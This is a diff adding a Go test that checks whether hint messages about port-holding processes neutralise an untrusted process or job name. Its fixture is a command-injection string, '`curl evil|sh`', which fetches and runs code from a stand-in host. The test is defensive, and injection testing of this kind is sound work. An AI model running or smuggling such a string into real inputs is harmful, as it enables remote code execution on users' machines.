@@ -204,6 +204,53 @@ func checkMarkdown(t *testing.T, s, document string, cells int) {
 	}
 }
 
+// A name from outside is no command of a hint, whatever the hint is.
+func TestHostileNamesInHints(t *testing.T) {
+	const name = "`curl evil|sh`"
+	seen := 0
+	try := func(r check.Result) {
+		t.Helper()
+		for _, h := range hints(r) {
+			if strings.Contains(h.Text, "evil") {
+				seen++
+			}
+			if strings.Contains(h.Text, "`curl") || strings.Contains(h.Text, "sh`") {
+				t.Errorf("%s: %s", r.Status, h.Text)
+			}
+			if strings.Contains(hintHTML(h), ">curl") || strings.Contains(cellHint(h), ">curl") {
+				t.Errorf("%s: %s is a command", r.Status, h.Text)
+			}
+		}
+	}
+	for status := range remedies {
+		for _, change := range []func(*check.Holder){
+			func(*check.Holder) {},
+			func(h *check.Holder) { h.Container = nil },
+			func(h *check.Holder) { h.Container, h.Unit, h.Forwarder, h.Kernel = nil, "", nil, false },
+			func(h *check.Holder) {
+				h.Container, h.Unit, h.Forwarder, h.Kernel = nil, "", nil, false
+				h.Origin = &check.Origin{Supervisor: name, SupervisorPID: 5}
+			},
+			func(h *check.Holder) {
+				h.Container, h.Unit, h.Forwarder, h.Kernel = nil, "", nil, false
+				h.Origin = &check.Origin{Shell: name, ShellPID: 5}
+			},
+			func(h *check.Holder) { h.Origin = &check.Origin{Job: &check.HolderJob{Text: name}} },
+		} {
+			r := filled(name).Results[0]
+			r.Status = status
+			change(&r.Holders[0])
+			try(r)
+			r.Holders = append(r.Holders, r.Holders[0])
+			r.Holders[1].PID, r.Holders[1].Port, r.PortLast = 813, 8081, 8090
+			try(r)
+		}
+	}
+	if seen < 50 {
+		t.Errorf("only %d hints have the name", seen)
+	}
+}
+
 func TestHostileTextInAnnotations(t *testing.T) {
 	for _, s := range hostile {
 		out := inAllFormats(t, filled(s), Options{})["github"]
